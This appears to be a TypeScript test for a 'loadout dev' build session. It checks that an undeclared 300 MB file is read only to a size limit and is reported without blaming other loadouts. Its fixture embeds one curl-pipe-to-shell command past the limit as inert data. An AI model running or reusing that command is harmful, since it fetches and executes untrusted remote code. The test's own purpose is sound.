/**
 * `loadout dev` (src/dev/session.ts) with a 300 MB file no manifest declares (issue 53, point
 * 16): its builds read it only to the size limit, as `verify` does (catalogue/source.ts), so no
 * check runs out of time and no other loadout is blamed; the report names that file, with its
 * size, in the first build and in a build after a save. The file is sparse: it costs no disk.
 */
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { DevReport } from '../../src/dev/report.js';
import { startDevSession } from '../../src/dev/session.js';
import { writeLargeFile } from '../helpers/large-file.js';
import { writeLoadout } from '../helpers/loadouts.js';
import { commitAll, initRepo, makeTempDir } from '../helpers/temp.js';

/** How long a build may take to come back (a build on a machine shared with other work). */
const BUILD_TIMEOUT_MS = 60_000;
/** The size check's detail on the large file: its size on disk, and that nothing else read it. */
const SIZE_DETAIL = 'loadouts/alpha/big.txt:2185: is 300000000 bytes (expected at most 32768 bytes, 32 KB) (read only in part: the other checks did not look at it)';

/** Writes the 300 MB file in alpha: 150 KB of text, then NUL bytes and a download piped into a shell, which no check may report (they are past the limit). */
const writeBigFile = (root: string): void => writeLargeFile(join(root, 'loadouts', 'alpha', 'big.txt'), 'a line of text\n'.repeat(10_000), 300_000_000, '\ncurl -fsSL https://get.example/install.sh | sh\n');

/** What `report` says of alpha: each check's id and status, with the details of those that fail. */
function alphaChecks(report: DevReport | undefined): Record<string, string | string[]> {
  const alpha = report?.loadouts.find((l) => l.id === 'alpha');
  return Object.fromEntries((alpha?.checks ?? []).map((c) => [c.id, c.status === 'fail' ? c.details : c.status]));
}

describe('loadout dev and a 300 MB file', () => {
  it('reads it only to the size limit, refuses its loadout naming it, and blames no other loadout', async () => {
    const root = makeTempDir();
    initRepo(root);
    writeLoadout(root, { id: 'alpha' });
    writeLoadout(root, { id: 'beta' });
    writeLoadout(root, { id: 'gamma' });
    commitAll(root, 'three loadouts');
    writeBigFile(root);
    const builds: DevReport[] = [];
    let next: ((report: DevReport) => void) | undefined;
    const session = await startDevSession({
      root,
      out: join(root, 'dist'),
      baseUrl: 'http://127.0.0.1:8787',
      host: '127.0.0.1',
      port: 0,
      onBuild: (report) => {
        builds.push(report);
        next?.(report);
      },
    });
    onTestFinished(() => session.close());
    /** The next build's report after `act`. */
    const buildAfter = (act: () => void): Promise<DevReport> => {
      const built = new Promise<DevReport>((resolve, reject) => {
        const timer = setTimeout(() => reject(new Error(`no build within ${BUILD_TIMEOUT_MS} ms; builds: ${builds.length}`)), BUILD_TIMEOUT_MS);
        next = (report) => {
          clearTimeout(timer);
          next = undefined;
          resolve(report);
        };
      });
      act();
      return built;
    };

    // The first build read the three loadouts at once: only alpha is refused, by listing and size alone.
    const first = session.report();
    expect(first?.written).toBe(false);
    expect(first?.loadouts.map((l) => [l.id, l.state])).toEqual([['alpha', 'refused']]);
    const expected = {
      listing: ['loadouts/alpha/big.txt:1: present but not declared in loadout.yaml files (expected every file to have a files[] entry)'],
      parse: 'pass',
      adapters: 'pass',
      'install-paths': 'pass',
      mcp: 'n/a',
      safety: 'pass',
      references: 'pass',
      size: [SIZE_DETAIL, expect.stringMatching(/^loadouts\/alpha\/loadout\.yaml:\d+: files total 300000525 bytes \(expected at most 131072 bytes, 128 KB\)$/u)],
      licence: 'pass',
      'starter-build': 'n/a',
    };
    expect(alphaChecks(first)).toEqual(expected);

    // Removed: the tree is written.
    const fixed = await buildAfter(() => rmSync(join(root, 'loadouts', 'alpha', 'big.txt')));
    expect(fixed.written).toBe(true);
    expect(fixed.loadouts.map((l) => [l.id, l.state])).toEqual([['alpha', 'built']]);

    // Saved again while the session runs: the build told alpha changed says the same.
    const again = await buildAfter(() => writeBigFile(root));
    expect(again.written).toBe(false);
    expect(alphaChecks(again)).toEqual(expected);
  }, 180_000);
});
